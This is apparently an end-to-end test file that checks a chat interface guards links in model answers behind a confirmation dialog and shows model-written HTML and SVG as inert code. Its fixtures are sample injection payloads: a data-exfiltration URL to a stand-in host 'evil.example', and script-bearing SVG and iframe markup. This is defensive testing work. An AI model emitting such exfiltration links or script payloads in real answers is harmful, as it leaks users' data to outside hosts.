"""Links that a model wrote."""

from collections.abc import Iterator

import pytest
from playwright.sync_api import Route, expect

from tests.e2e.browser import User

pytestmark = pytest.mark.e2e
ADDRESS = "https://evil.example/collect?q=SECRET"


@pytest.fixture
def asked(alice: User) -> Iterator[list[str]]:
    """What any page of this browser asks the other host for."""
    found: list[str] = []

    def answer(route: Route) -> None:
        found.append(route.request.url)
        route.fulfill(body="there", content_type="text/plain")

    alice.page.context.route("**://evil.example/**", answer)
    yield found
    alice.page.context.unroute("**://evil.example/**")


def test_c08_a_link_says_where_it_leads_and_opens_only_after_a_yes(alice: User, asked: list[str]) -> None:
    alice.order(f"rate=1500 say: Read [the handbook]({ADDRESS}).")
    alice.wait_settled()
    link = alice.answers.last.get_by_role("link", name="the handbook")
    expect(link).to_have_attribute("rel", "noopener noreferrer nofollow")
    expect(link).to_have_attribute("title", "evil.example")
    dialog = alice.page.locator("#confirm")
    for choose in ("click", "focus and Enter"):
        if choose == "click":
            link.click()
        else:
            link.focus()
            alice.page.keyboard.press("Enter")
        expect(dialog).to_contain_text("leads to evil.example")
        expect(dialog).to_contain_text("SECRET")
        dialog.get_by_role("button", name="Cancel").click()
        expect(dialog).to_be_hidden()
    link.click(button="middle")
    expect(dialog).to_be_visible()
    alice.page.wait_for_timeout(500)
    assert (asked, len(alice.page.context.pages)) == ([], 1)
    with alice.page.context.expect_page() as opened:
        dialog.get_by_role("button", name="Open the link").click()
    opened.value.wait_for_load_state()
    assert asked == [ADDRESS]
    assert opened.value.evaluate("[window.opener, document.referrer]") == [None, ""]
    opened.value.close()


def test_c03_html_and_svg_of_an_answer_are_shown_as_code(alice: User, asked: list[str]) -> None:
    svg = f"<svg xmlns='http://www.w3.org/2000/svg'><script>window.hit=1</script><image href='{ADDRESS}'/></svg>"
    page = f"<!doctype html><iframe srcdoc='<script>top.hit=1</script>'></iframe><img src='{ADDRESS}'>"
    alice.order(f"rate=1500 say: ```svg\n{svg}\n```\n\n```html\n{page}\n```\n\n{svg}\n\n{page}")
    alice.wait_settled()
    answer = alice.answers.last
    expect(answer.locator("pre").first).to_contain_text("window.hit=1")
    assert answer.locator("[data-body] :is(svg:not(.icon), iframe, img, object, embed, script)").count() == 0
    assert alice.page.evaluate("window.hit") is None
    assert asked == []
